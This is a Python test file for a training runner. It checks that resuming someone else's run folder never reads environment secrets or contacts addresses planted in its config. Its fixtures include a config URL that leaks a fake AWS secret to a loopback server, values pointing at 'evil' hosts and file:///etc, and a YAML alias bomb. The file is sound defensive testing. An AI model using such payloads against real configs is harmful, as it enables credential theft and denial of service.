"""A run's config may be anybody's: it reads no variable and asks no server by its own words."""

import shlex
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from socketserver import StreamRequestHandler, ThreadingTCPServer
from threading import Thread
from typing import Any

import pytest
from commands import run_command
from configs import LAPTOP, config_error, frozen_text
from run_folders import record
from tiers import first_of

import ddp_runner
from ddp_runner.cli.command import compose, parse
from ddp_runner.cli.plan import Invocation, plan
from ddp_runner.config.secrets import foreign_keys
from ddp_runner.errors import UserError
from ddp_runner.job import Job
from ddp_runner.tracking.run_dir import RunDir
from ddp_runner.tracking.run_record import write_run_record

TOY = ("model=toy", "parallelism=single", "dataset.num_samples=8", "train.epochs=1")
SECRET = "wJalrXUtnFEMI"
TASKS = ("train", "evaluate", "predict", "export", "sample")


@pytest.fixture(autouse=True)
def secret(monkeypatch: pytest.MonkeyPatch) -> None:
    """Return a variable that no run may carry away."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)


@contextmanager
def server() -> Iterator[tuple[int, list[str]]]:
    """Give the port of a server on loopback, and the requests that it has got so far."""
    asked = list[str]()

    class Handler(StreamRequestHandler):
        def handle(self) -> None:
            """Note the request's path, whatever its method, and answer that nothing is there."""
            asked.append(self.rfile.readline().split()[1].decode())
            self.wfile.write(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")

    with ThreadingTCPServer(("127.0.0.1", 0), Handler) as listener:
        thread = Thread(target=listener.serve_forever)
        thread.start()
        try:
            yield listener.server_address[1], asked
        finally:
            listener.shutdown()
            thread.join()


def foreign_run(folder: Path, changes: dict[str, Any]) -> Path:
    """Make a run folder with these dotted keys in its config; return its path."""
    (folder / ".hydra").mkdir(parents=True)
    RunDir(folder).config.write_text(frozen_text(changes, *TOY))
    write_run_record(folder, status="preempted")
    return folder


def hub_files(address: str) -> dict[str, Any]:
    """Return a dataset whose file is at an address that holds a variable of this machine."""
    target = "ddp_runner.data.sources.hf_dataset.HFDataset"
    files = f"http://{address}/${{oc.env:AWS_SECRET_ACCESS_KEY}}.csv"
    return {"_target_": target, "name": "x", "path": "csv", "data_files": files, "eval_split": None}


@pytest.mark.parametrize("task", first_of(TASKS))
def test_a_foreign_run_sends_nothing_to_its_server(task: str, tmp_path: Path) -> None:
    """Whether it is resumed or its model is used: one line with key, variable and what to write."""
    with server() as (port, asked):
        run = foreign_run(tmp_path / "run", {"dataset": hub_files(f"127.0.0.1:{port}")})
        words = () if task == "train" else (f"task={task}",)
        end = run_command(f"resume={run}", "world_size=1", *words, folder=tmp_path / "here")
        assert (end.exit_code, asked) == (2, [])
    (line,) = end.stderr.splitlines()
    assert line.startswith("error: dataset.data_files (http://127.0.0.1:")
    word = f'++dataset.data_files="http://127.0.0.1:{port}/${{oc.env:AWS_SECRET_ACCESS_KEY}}.csv"'
    assert line.endswith(f"add {shlex.quote(word)}")
    assert SECRET not in line


@pytest.mark.full
def test_the_attack_works_once_the_user_says_so(tmp_path: Path) -> None:
    """Else the test above would show nothing."""
    pytest.importorskip("datasets")
    with server() as (port, asked):
        run = foreign_run(tmp_path / "run", {"dataset": hub_files(f"127.0.0.1:{port}")})
        word = f'++dataset.data_files="{hub_files(f"127.0.0.1:{port}")["data_files"]}"'
        end = run_command(f"resume={run}", "world_size=1", word, folder=tmp_path / "here")
        assert end.exit_code == 2
        assert f"/{SECRET}.csv" in asked


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("dataset.x", "${oc.env:AWS_SECRET_ACCESS_KEY}"),
        ("dataset.x", "a ${oc.${model.name}:AWS_SECRET_ACCESS_KEY}"),
        ("dataset.x", "\\${oc.env:AWS_SECRET_ACCESS_KEY}"),
        ("model.x", ["${oc.decode:${model.name}}"]),
        ("model.x", {"deep": [{"url": "hf://evil/set"}]}),
        ("model.x", {"http://evil/": "a"}),
        ("dataset.x", b"http://evil/"),
        ("dataset.folder", "file:///etc"),
        ("dataset.x", "evil.example:443"),
        ("dataset.x", "me@10.0.0.1:22/home"),
        ("dataset.x", "[::1]:80"),
        ("loop.x", "s3://bucket"),
        ("metrics.x", {"_target_": "torchmetrics.X", "at": "http://evil"}),
        ("optimizer.x", "ftp://evil"),
        ("notes", "${oc.env:AWS_SECRET_ACCESS_KEY}"),
        ("seed", "${oc.env:AWS_SECRET_ACCESS_KEY}"),
    ],
    ids=str,
)
def test_a_variable_or_an_address_must_be_repeated(key: str, value: Any, tmp_path: Path) -> None:
    """In any group, nested, in lists; through any resolver; of any scheme."""
    sentence = config_error(f"resume={foreign_run(tmp_path, {key: value})}")
    assert sentence.startswith(key)
    assert f"++{key}" in sentence
    assert SECRET not in sentence


@pytest.mark.parametrize("words", [(), ("metrics=mae",)], ids=str)
def test_metrics_beside_those_of_a_foreign_run_resolve_none_of_it(
    words: tuple[str, ...], tmp_path: Path
) -> None:
    """An evaluation adds its own to those of the training."""
    run = foreign_run(tmp_path, {"metrics": {"x": "${oc.env:AWS_SECRET_ACCESS_KEY}"}})
    sentence = config_error(f"resume={run}", "task=evaluate", *words)
    assert sentence.startswith("metrics.x (${oc.env:AWS_SECRET_ACCESS_KEY})")


@pytest.mark.parametrize("group", ["dataset", "trackers", "model"])
def test_a_group_is_no_interpolation(group: str, tmp_path: Path) -> None:
    """It would be resolved as soon as somebody looks into it."""
    run = foreign_run(tmp_path, {group: "${oc.create:{_target_:${oc.env:AWS_SECRET_ACCESS_KEY}}}"})
    sentence = config_error(f"resume={run}")
    assert f"{group} is not a mapping" in sentence
    assert SECRET not in sentence


def test_what_only_looks_like_an_address_is_none() -> None:
    """Ranges of a split, times and paths; words that lead nowhere."""
    config = {
        "dataset": {"split": "train[100:200]", "at": "10:30", "folder": "/data/a:b", "n": "12:3"},
        "notes": "see http://wiki/page",
        "name": "gpt:2",
        "resume": "runs/a:1",
    }
    assert foreign_keys(config, {}) == {}


def planned(*arguments: str) -> Job:
    """Return the job that a command line describes, in this process."""
    command = parse(arguments)
    return plan(compose(command), LAPTOP, Invocation(command, None, 0.0, {}))


@pytest.mark.full
def test_a_command_that_goes_on_with_ones_own_run_is_complete(tmp_path: Path) -> None:
    """What the end of a run prints, and what a job of Slurm runs, says it all again."""
    own = ("+user.token='${oc.env:AWS_SECRET_ACCESS_KEY}'", "+user.at=['http://a b','c']")
    job = planned(*TOY, *own)
    assert job.resume_arguments == (
        '++user.token="${oc.env:AWS_SECRET_ACCESS_KEY}"',
        '++user.at=["http://a b","c"]',
    )
    run = RunDir(tmp_path / "run")
    run.path.mkdir()
    run.freeze(job)
    again = planned(f"resume={run}", *job.resume_arguments)
    assert again.config.user == job.config.user
    assert again.config.user["token"] == SECRET
    assert again.resume_arguments == job.resume_arguments
    with pytest.raises(UserError, match=r"user\.token .* '\+\+user\.token="):
        planned(f"resume={run}", job.resume_arguments[1])
    other = "+user.more='${oc.env:AWS_SECRET_ACCESS_KEY}'"  # says nothing of this key
    with pytest.raises(UserError, match=r"^user\.token"):
        planned(f"resume={run}", job.resume_arguments[1], other)


def test_what_ones_own_yaml_reads_need_not_be_repeated(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The folder of --config-dir is as trusted as the command line."""
    monkeypatch.chdir(tmp_path)
    conf = tmp_path / "conf" / "dataset" / "mine.yaml"
    conf.parent.mkdir(parents=True)
    conf.write_text(
        "defaults: [torch_dataset]\nname: ${oc.env:AWS_SECRET_ACCESS_KEY}\n"
        "train: {_target_: torchvision.datasets.FakeData, transform: http://mine}\n"
    )
    words = (f"--config-dir={conf.parents[1]}", "dataset=mine")
    job = planned("model=toy", "parallelism=single", *words)
    run = RunDir(tmp_path / "run")
    run.path.mkdir()
    run.freeze(job)
    assert planned(f"resume={run}", words[0]).config.dataset == job.config.dataset
    conf.write_text(conf.read_text().replace("http://mine", "http://other"))
    with pytest.raises(UserError, match=r"^dataset\.train"):
        planned(f"resume={run}", words[0])


@pytest.mark.full
def test_a_command_that_goes_on_by_itself_says_the_same(tmp_path: Path) -> None:
    """As a job that is queued again does: resume=auto in a folder, twice."""
    words = (*TOY, f"hydra.run.dir={tmp_path}/run", "resume=auto", "notes='${oc.env:USER_NOTE}'")
    for epochs in (1, 1):
        end = run_command(*words, folder=tmp_path, environ={"USER_NOTE": f"note {epochs}"})
        assert (end.exit_code, end.stderr) == (0, "")
        write_run_record(tmp_path / "run", status="preempted")
    assert len(record(tmp_path / "run")["sessions"]) == 2


@pytest.mark.parametrize("value", ["${oc.env:AWS_SECRET_ACCESS_KEY}", "http://127.0.0.1:1/x"])
def test_a_notebook_loads_no_model_that_reads_or_asks(value: str, tmp_path: Path) -> None:
    """A function has no command line that could say it again."""
    run = foreign_run(tmp_path, {"model.name": value})
    with pytest.raises(UserError, match=r"^model\.name \(") as rejected:
        ddp_runner.load(run)
    assert SECRET not in str(rejected.value)


def test_readers_of_runs_resolve_nothing(tmp_path: Path) -> None:
    """A table shows a config as it stands."""
    foreign_run(tmp_path, {"dataset.x": "${oc.env:AWS_SECRET_ACCESS_KEY}"})
    table = ddp_runner.read_runs(tmp_path)
    assert list(table["dataset.x"]) == ["${oc.env:AWS_SECRET_ACCESS_KEY}"]


def bomb(folder: Path) -> None:
    """Write the config of a run so that a few lines stand for a billion values."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    for name in ("config", "overrides", "choices"):
        (folder / ".hydra" / f"{name}.yaml").write_text("\n".join(lines))


@pytest.mark.parametrize("kind", ["aliases", "values", "size"])
def test_a_yaml_is_bounded(kind: str, tmp_path: Path) -> None:
    """In one line, at once, before any value is made of it."""
    run = foreign_run(tmp_path, {})
    if kind == "aliases":
        bomb(run)
    else:
        RunDir(run).config.write_text("x: [" + "1," * (30_000 if kind == "values" else 10**6) + "]")
    expected = "it has more than 1024 KiB" if kind == "size" else "it has aliases, or more than"
    end = run_command(f"resume={run}", folder=tmp_path / "here")
    assert end.exit_code == 2
    (line,) = end.stderr.splitlines()
    assert expected in line
    with pytest.raises(UserError, match=expected):
        ddp_runner.load(run)
    assert ddp_runner.read_runs(run)["reason"].notna().all()
